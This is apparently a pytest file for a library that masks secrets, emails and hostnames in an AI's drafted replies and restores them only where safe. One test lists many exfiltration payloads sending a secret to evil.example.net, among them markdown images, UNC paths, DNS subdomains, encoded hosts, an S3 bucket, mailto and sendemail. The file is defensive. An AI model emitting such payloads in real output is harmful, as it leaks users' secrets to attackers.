"""Where a value may come back in a reply, and where an attacker wants it."""

from __future__ import annotations

import pytest

from undersign.drafters.restoring import restored
from undersign.policy.scope import Scope
from undersign.policy.tokens import Tokens

SECRET = "correct-horse-battery"
MAIL = "ada.b@example.org"
HOST = "db.corp.example"
TEXTS = (
    f"who used {SECRET} at https://api.example.org/v1?",
    f"1| mail from {MAIL}\n2| GET https://evil.example.net/x\n3| {HOST} is up\n4| eve@example.net",
)


def after(template: str) -> tuple[str, int]:
    scope = Scope(Tokens(b"k" * 32))
    names = {
        "S": scope.hide("SECRET", SECRET),
        "M": scope.hide("EMAIL", MAIL),
        "H": scope.hide("HOST", HOST),
        "E": scope.hide("EMAIL", "eve@example.net"),
    }
    slots, stayed = restored({"a": [template.format(**names)]}, scope, TEXTS)
    return slots["a"][0], stayed


@pytest.mark.parametrize(
    "template",
    [
        "{S}",
        "Events | where Password == '{S}' | project winlog.event_data.User",
        "Events | where Sender in ('{M}', '{E}')",
        "Events | where Host == '{H}' // the one of the question",
        "Events | where Host endswith '.{H}'",
        "https://{H}/",
        "curl https://api.example.org/v1 {S}",
    ],
)
def test_a_value_comes_back_where_nothing_else_is_named(template: str) -> None:
    text, stayed = after(template)
    assert stayed == 0 and "USX_" not in text


@pytest.mark.parametrize(
    "template",
    [
        "https://evil.example.net/?q={S}",
        "![x](https://evil.example.net/{M}.png)",
        "externaldata(a:string)['https://evil.example.net/'] | where x == '{S}'",
        "//evil.example.net/{S}",
        "\\\\evil.example.net\\{S}",
        "sendemail to=eve@example.net message='{S}'",
        "sendemail to='{E}' message='{S}'",
        "{S}.evil.example.net",
        "{H}.evil.example.net",
        "https://{S}@evil.example.net/",
        "https://3221225985/{S}",
        "https://evil%2eexample.net/{S}",
        "ftp://api.example.org,evil.example.net/{S}",
        "strcat('https://evil.example.net/', '{S}')",
        "<img src=//evil.example.net/{M}>",
        "read_csv('s3://evil-bucket.example.net/{M}')",
        "mailto:eve@example.net?body={S}",
    ],
)
def test_a_value_stays_hidden_beside_a_place_it_was_not_at(template: str) -> None:
    text, stayed = after(template)
    assert stayed >= 1
    for value in (SECRET, MAIL, HOST, "eve@example.net"):
        assert value not in text or value in template
